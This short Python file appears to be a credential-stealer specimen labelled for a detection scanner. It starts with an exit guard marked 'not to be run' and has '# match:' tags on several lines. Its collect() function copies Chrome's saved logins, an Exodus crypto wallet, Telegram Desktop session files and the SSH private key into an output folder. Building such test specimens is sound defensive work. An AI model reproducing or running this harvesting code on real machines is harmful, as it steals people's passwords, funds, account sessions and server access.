raise SystemExit("specimen: not to be run")
import os
import shutil

home = os.path.expanduser("~")
roaming = os.getenv("APPDATA")
local = os.getenv("LOCALAPPDATA")

def collect(out):
    shutil.copy2(local + "\\Google\\Chrome\\User Data\\Default\\Login Data", out)  # match: secret-files  # match: browser-data
    shutil.copytree(roaming + "\\Exodus\\exodus.wallet", out)
    shutil.copytree(roaming + "\\Telegram Desktop\\tdata", out)  # match: messenger-sessions
    shutil.copy(os.path.join(home, ".ssh", "id_rsa"), out)  # match: developer-credentials
